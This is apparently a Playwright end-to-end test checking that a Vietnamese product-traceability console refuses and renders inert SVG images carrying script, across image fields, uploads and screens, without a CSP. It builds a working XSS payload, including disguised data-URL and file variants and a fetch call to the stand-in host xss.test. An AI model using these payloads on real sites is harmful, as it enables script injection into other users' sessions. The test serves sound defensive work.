import { Buffer } from 'node:buffer';
import { expect, test, type APIResponse, type Page } from '@playwright/test';
import { taxCodeCheckDigit } from '../../src/domain/validation';
import { api, onceMoreOnReset, open, signInThroughSso } from './support';

/**
 * Nothing a user sends as a picture runs, on a console served WITHOUT a Content-Security-Policy
 * (vite preview, as another web server or a CDN would serve it): an SVG whose script writes to
 * localStorage, to the page's globals and to the tab's title is sent over the API in every image
 * field, plain and disguised, and refused; then every screen that shows a picture is opened with
 * answers carrying that SVG in every picture field (what a server that let it through would send),
 * each "view full size" clicked, and the test looks for any trace of the script and for any tab it
 * opened.
 */
test.beforeEach(() => {
    test.skip(
        test.info().project.name !== 'cross-origin',
        "the cross-origin layout (vite preview) sends no CSP; nginx's would hide a script that runs",
    );
});

/** Where a planted script calls home, from any origin it may run in (a frame, a tab, data:). */
const HOME = 'http://xss.test/ran';
/** What the planted script does wherever it runs: each trace the test looks for, named by field. */
const script = (field: string) =>
    [
        `fetch('${HOME}/${field}', { mode: 'no-cors' })`,
        `localStorage.setItem('xss-${field}', '1')`,
        `window.top.__xss = '${field}'`,
        `window.opener.__xss = '${field}'`,
        `window.top.document.title = 'XSS ${field}'`,
        `document.title = 'XSS ${field}'`,
    ]
        .map((line) => `try { ${line} } catch (e) {}`)
        .join(' ');
const svg = (field: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" onload="${script(field)}">` +
    `<script>${script(field)}</script><rect width="64" height="48" fill="#c62828"/></svg>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** The SVG as a data URL, as an attacker writes it to a JSON field: plain, and disguised. */
const dataUrls = (field: string) => ({
    'SVG, base64': `data:image/svg+xml;base64,${base64(svg(field))}`,
    'SVG, not base64': `data:image/svg+xml;charset=utf-8,${encodeURIComponent(svg(field))}`,
    'SVG bytes declared as PNG': `data:image/png;base64,${base64(svg(field))}`,
});
interface Upload {
    name: string;
    mimeType: string;
    buffer: Buffer;
}
/** The SVG as an uploaded file: named and typed as a PNG, and as what it is. */
const files = (field: string): Record<string, Upload> => ({
    'SVG named anh.png, image/png': {
        name: 'anh.png',
        mimeType: 'image/png',
        buffer: Buffer.from(svg(field)),
    },
    'SVG named anh.svg, image/svg+xml': {
        name: 'anh.svg',
        mimeType: 'image/svg+xml',
        buffer: Buffer.from(svg(field)),
    },
});

/** A tax code no business holds, with a right check digit (the refusal must be the picture's). */
function freshTaxCode() {
    const run = String(Date.now()).slice(-7);
    for (let ninth = 0; ; ninth++) {
        const body = `03${run}`.slice(0, 8) + String(ninth % 10);
        const check = taxCodeCheckDigit(body);
        if (check !== null) return `${body}${check}`;
    }
}

/** The pictures' fields of the API's answers: each answer's value becomes the planted SVG. */
const LIST_FIELDS = new Set(['images', 'photos']);
const ONE_FIELDS = new Set(['logo', 'biz_logo', 'bizLogo', 'avatar', 'backgroundImage', 'image']);
function plant(value: unknown): unknown {
    if (Array.isArray(value)) return value.map(plant);
    if (!value || typeof value !== 'object') return value;
    return Object.fromEntries(
        Object.entries(value).map(([key, v]) => {
            if (LIST_FIELDS.has(key)) return [key, Object.values(dataUrls(key))];
            if (ONE_FIELDS.has(key)) return [key, dataUrls(key)['SVG, base64']];
            return [key, plant(v)];
        }),
    );
}

/** The fields whose planted SVG a page shows (decoded from the data URL of its element). */
const shownFields = (page: Page) =>
    page.evaluate(() => {
        const fields = new Set<string>();
        // Wherever a picture may be put: an image, or a frame or object that would make it a document.
        for (const element of document.querySelectorAll('img, iframe, embed, object')) {
            const match = /^data:image\/[\w+]+(;base64|;charset=utf-8)?,(.*)$/.exec(
                element.getAttribute(element.localName === 'object' ? 'data' : 'src') ?? '',
            );
            if (!match) continue;
            let text: string;
            try {
                text = match[1] === ';base64' ? atob(match[2]) : decodeURIComponent(match[2]);
            } catch {
                continue;
            }
            const field = /localStorage\.setItem\('xss-(\w+)'/.exec(text)?.[1];
            if (field) fields.add(field);
        }
        return [...fields].sort();
    });

test('an SVG with script is refused in every image field, and shown inert on every screen of a console without CSP', async ({
    page,
    context,
    request,
    baseURL,
}) => {
    const documents: { url: string; csp: string | undefined }[] = [];
    const opened: string[] = [];
    const alerts: string[] = [];
    const calledHome: string[] = [];
    await context.route(`${HOME}/**`, (route) => {
        calledHome.push(route.request().url());
        return route.fulfill({ status: 204 });
    });
    page.on('response', (response) => {
        if (response.request().resourceType() === 'document' && response.url().startsWith(baseURL!))
            documents.push({ url: response.url(), csp: response.headers()['content-security-policy'] });
    });
    context.on('page', (other) => opened.push(other.url() || 'about:blank'));
    page.on('dialog', (dialog) => {
        alerts.push(dialog.message());
        void dialog.dismiss();
    });

    /** No trace of a planted script anywhere: storage, globals, title, tabs, dialogs. */
    async function nothingRan(where: string) {
        const onPage = await page.evaluate(() => ({
            storage: Object.keys(localStorage).filter((key) => key.startsWith('xss-')),
            global: (window as { __xss?: string }).__xss ?? null,
            title: /XSS/.test(document.title) ? document.title : null,
        }));
        // One comparison, so that a failure lists every trace at once.
        expect({ calledHome, ...onPage, opened, alerts }, `a picture's script ran (${where})`).toEqual({
            calledHome: [],
            storage: [],
            global: null,
            title: null,
            opened: [],
            alerts: [],
        });
    }

    await signInThroughSso(page, 'Chủ sở hữu');
    const token = await page.evaluate(() => localStorage.getItem('access_token'));
    const headers = { Authorization: `Bearer ${token}` };
    const read = async (path: string) => {
        const response = await request.get(`${api()}${path}`, { headers });
        expect(response.ok(), path).toBe(true);
        return (await response.json()).data;
    };
    const json = (method: string, path: string, data: unknown) =>
        request.fetch(`${api()}${path}`, { method, headers, data });
    const form = (path: string, multipart: Record<string, string | Upload>) =>
        request.post(`${api()}${path}`, { headers, multipart });

    const { me } = await read('/api/me');
    const product = (await read('/api/product/list?limit=1')).items[0];
    const template = (await read('/api/stamp-template/list?limit=1')).items[0];
    const diaryId = 1;
    const activities = async () => (await read(`/api/diary/activity/${diaryId}?limit=100`)).items;
    const activity = (await activities()).find((a: { photos: string[] }) => a.photos.length > 0);
    expect(activity, 'an activity of the diary with a photo').toBeDefined();
    /** Everything the server holds that carries a picture, to prove nothing was stored. */
    const stored = async () => ({
        me: (await read('/api/me')).me,
        businesses: await read('/api/business'),
        business: await read('/api/business/current'),
        products: await read('/api/product/list?limit=100'),
        product: await read(`/api/product/detail/${product.id}`),
        templates: await read('/api/stamp-template/list?limit=100'),
        template: await read(`/api/stamp-template/detail/${template.id}`),
        activities: await activities(),
    });
    const before = await stored();

    await test.step('every image field refuses the SVG sent over the API, and stores nothing', async () => {
        const valid = {
            name: 'HTX Nông sản Lâm Viên',
            taxCode: freshTaxCode(),
            phone: '0912345678',
            province: '68',
            ward: '68002',
            address: '12 Trần Phú',
        };
        /** JSON fields: the field's name, its error key, and the call that writes it. */
        const jsonFields: [string, string, (url: string) => Promise<APIResponse>][] = [
            ['business logo', 'logo', (url) => json('POST', '/api/business/update', { logo: url })],
            [
                'business logo, at registration',
                'logo',
                (url) => form('/api/business/create', { ...valid, logo: url }),
            ],
            ['business images', 'images', (url) => json('POST', '/api/business/update', { images: [url] })],
            [
                'product images, new product',
                'images',
                (url) =>
                    json('POST', '/api/product/add', {
                        ...product,
                        id: undefined,
                        code: `SVG${Date.now()}`,
                        gtin: '',
                        images: [url],
                    }),
            ],
            [
                'product images',
                'images',
                (url) => json('POST', `/api/product/edit/${product.id}`, { ...product, images: [url] }),
            ],
            [
                'stamp template background, new template',
                'backgroundImage',
                (url) =>
                    json('POST', '/api/stamp-template/add', {
                        ...template,
                        id: undefined,
                        name: `Mẫu tem ảnh nền ${Date.now()}`,
                        backgroundImage: url,
                    }),
            ],
            [
                'stamp template background',
                'backgroundImage',
                (url) =>
                    json('POST', `/api/stamp-template/edit/${template.id}`, {
                        ...template,
                        backgroundImage: url,
                    }),
            ],
            [
                'stamp template background, preview',
                'backgroundImage',
                (url) =>
                    json('POST', '/api/stamp-template/print-preview-from-params', {
                        ...template,
                        backgroundImage: url,
                    }),
            ],
            [
                'diary activity photos, new activity',
                'photos',
                (url) => json('POST', '/api/diary/activity', { ...activity, id: undefined, photos: [url] }),
            ],
            [
                'diary activity photos',
                'photos',
                (url) =>
                    json('PATCH', '/api/diary/activity', { ...activity, photos: [...activity.photos, url] }),
            ],
            [
                'issue report screenshot',
                'screenshot',
                (url) =>
                    json('POST', '/api/user/report-issue', {
                        category: 'bug',
                        description: 'Ảnh chụp màn hình của trang nhật ký',
                        screenshot: url,
                    }),
            ],
        ];
        /** Uploads: the field's name and the call that sends the file. */
        const fileFields: [string, (file: Upload) => Promise<APIResponse>][] = [
            ['business logo or images, upload', (file) => form('/api/upload/biz-images', { files: file })],
            [
                'business logo, at registration',
                (file) => form('/api/business/create', { ...valid, logo: file }),
            ],
            [
                'business images, at registration',
                (file) => form('/api/business/create', { ...valid, images: file }),
            ],
            [
                'stamp template background, upload',
                (file) => form('/api/upload/stamp-template-image', { file }),
            ],
            [
                'profile avatar',
                (file) => form('/api/user/update-profile', { name: me.name, phone: me.phone, avatar: file }),
            ],
        ];
        for (const [field, errorKey, send] of jsonFields)
            for (const [how, url] of Object.entries(dataUrls('stored'))) {
                const response = await send(url);
                expect.soft(response.status(), `${field} (${how})`).toBe(400);
                expect
                    .soft((await response.json()).errors?.[errorKey], `${field} (${how})`)
                    .toEqual(expect.any(String));
            }
        for (const [field, send] of fileFields)
            for (const [how, file] of Object.entries(files('stored'))) {
                const response = await send(file);
                expect.soft(response.status(), `${field} (${how})`).toBe(400);
                // The refusal is the file's, not another field's.
                expect
                    .soft((await response.json()).message, `${field} (${how})`)
                    .toContain(`Tệp ${file.name} không phải ảnh`);
            }
        // A data URL in the avatar's text part is not a file: the contract keeps the current picture.
        for (const url of Object.values(dataUrls('stored')))
            await form('/api/user/update-profile', { name: me.name, phone: me.phone, avatar: url });

        const after = await stored();
        expect.soft(JSON.stringify(after), 'the SVG stored somewhere').not.toContain('xss-');
        expect.soft(JSON.stringify(after), 'the SVG stored somewhere').not.toContain(base64('<svg'));
        expect.soft(after.me.avatar).toEqual(before.me.avatar);
        expect.soft(after.businesses.length).toBe(before.businesses.length);
        expect.soft(after.products.total).toBe(before.products.total);
        expect.soft(after.templates.total).toBe(before.templates.total);
        expect.soft(after.activities.length).toBe(before.activities.length);
    });

    await test.step('the console is served without a CSP: nothing else stops a script', async () => {
        await page.reload();
        await expect(page.locator('[data-dashboard="ready"]')).toBeVisible({ timeout: 30_000 });
        await expect(page.locator('meta[http-equiv="Content-Security-Policy" i]')).toHaveCount(0);
        expect(documents.length).toBeGreaterThan(0);
        expect(documents.filter((d) => d.csp !== undefined)).toEqual([]);
    });

    // From here the server's answers carry the SVG in every picture field, as a server that had let
    // it through would: what the console does with it alone decides whether it runs.
    // Such a server also takes the pictures it keeps back in a template's preview (the edit page
    // sends the one it was given): the preview is asked with the picture the server really keeps.
    const planted = dataUrls('backgroundImage')['SVG, base64'];
    await page.route(`${api()}/api/**`, async (route) => {
        const sent = route.request().url().endsWith('/print-preview-from-params')
            ? route.request().postDataJSON()
            : null;
        const response = await onceMoreOnReset(() =>
            route.fetch(
                sent?.backgroundImage === planted
                    ? {
                          postData: JSON.stringify({
                              ...sent,
                              backgroundImage: before.template.backgroundImage ?? null,
                          }),
                      }
                    : undefined,
            ),
        );
        const type = response.headers()['content-type'] ?? '';
        if (!type.includes('application/json')) return route.fulfill({ response });
        const body = await response.json();
        // The demo business has no images: its answer then leaves the field out.
        if (route.request().url().endsWith('/api/business/current') && body.data) body.data.images ??= [];
        return route.fulfill({ response, json: plant(body) });
    });
    await page.reload();
    await expect(page.locator('[data-dashboard="ready"]')).toBeVisible({ timeout: 30_000 });

    const views: { name: string; path: string; fields: string[]; then?: () => Promise<void> }[] = [
        {
            name: "the business's page, its header and the business menu",
            path: '/biz/detail',
            fields: ['biz_logo', 'images', 'logo'],
            then: async () => {
                await page.getByRole('button', { name: 'Đổi chủ thể' }).click();
                const menu = page.getByRole('menu', { name: 'Chọn chủ thể' });
                await expect(menu).toBeVisible();
                await expect.poll(() => shownFields(page)).toContain('logo');
                await page.keyboard.press('Escape');
                await expect(menu).toBeHidden();
            },
        },
        { name: "the business's edit page", path: '/biz/update', fields: ['images', 'logo'] },
        {
            name: 'the link invitations received, with their businesses',
            path: '/dashboard',
            fields: [],
            then: async () => {
                await page.getByRole('button', { name: 'Xem lời mời' }).click();
                const invitations = page.getByRole('dialog', { name: 'Lời mời liên kết' });
                await expect(invitations.getByRole('button', { name: 'Chấp nhận' }).first()).toBeVisible();
                await expect.poll(() => shownFields(page)).toContain('bizLogo');
                await invitations.getByRole('button', { name: 'Đóng' }).click();
                await expect(invitations).toBeHidden();
            },
        },
        { name: 'the product list', path: '/product/list', fields: ['images'] },
        {
            name: "a product's page and its public preview",
            path: `/product/detail/${product.id}`,
            fields: ['images'],
        },
        { name: "a product's edit page", path: `/product/edit/${product.id}`, fields: ['images'] },
        {
            name: "a stamp template's page",
            path: `/stamp-template/detail/${template.id}`,
            fields: ['backgroundImage', 'image'],
        },
        {
            name: "a stamp template's edit page",
            path: `/stamp-template/edit/${template.id}`,
            fields: ['backgroundImage', 'image'],
        },
        {
            name: "a diary's activities, each photo viewed full size",
            path: `/diary/detail/${diaryId}`,
            fields: ['photos'],
            then: async () => {
                const photos = page.getByRole('button', { name: /^Xem ảnh cỡ lớn: / });
                await expect(photos.first()).toBeVisible();
                // The first activity's three photos: one of each kind of data URL.
                for (let index = 0; index < 3; index++) {
                    const name = (await photos.nth(index).getAttribute('aria-label'))!.replace(
                        'Xem ảnh cỡ lớn: ',
                        '',
                    );
                    await photos.nth(index).click();
                    const full = page.getByRole('dialog', { name });
                    await expect(full.getByRole('img', { name })).toBeVisible();
                    await full.getByRole('button', { name: 'Đóng ảnh' }).click();
                    await expect(full).toBeHidden();
                    await nothingRan(`${name}, full size`);
                }
            },
        },
        {
            name: "an activity's edit page",
            path: `/diary/activity/update/${diaryId}/${activity.id}`,
            fields: ['photos'],
        },
        {
            name: "a stamp's trace, with its business for consumers",
            path: '/trace?code=150',
            fields: ['logo'],
        },
        { name: 'the profile', path: '/profile/detail', fields: ['avatar'] },
        { name: "the profile's edit page", path: '/profile/update', fields: ['avatar'] },
    ];

    for (const view of views) {
        await test.step(`${view.name}: the SVG is shown as an image, and nothing runs`, async () => {
            // From a page without pictures of its own: what the poll then reads is this view's.
            await open(page, '/khong-co-trang-nay');
            await expect(page.getByRole('heading', { name: 'Not Found' })).toBeVisible();
            await open(page, view.path);
            await expect(page).toHaveURL(new RegExp(`${view.path.replace('?', '\\?')}$`));
            for (const field of view.fields)
                await expect
                    .poll(() => shownFields(page), `${view.name} shows the ${field}`)
                    .toContain(field);
            await view.then?.();
            await nothingRan(view.name);
        });
    }
    // Every picture has had its time to load, and every script its time to run.
    await page.reload();
    await expect(page.getByRole('button', { name: 'Tài khoản' })).toBeVisible();
    await nothingRan('after every screen');
    // Calls still coming (the page polls) are let be: their answers no longer matter.
    await page.unrouteAll({ behavior: 'ignoreErrors' });
});
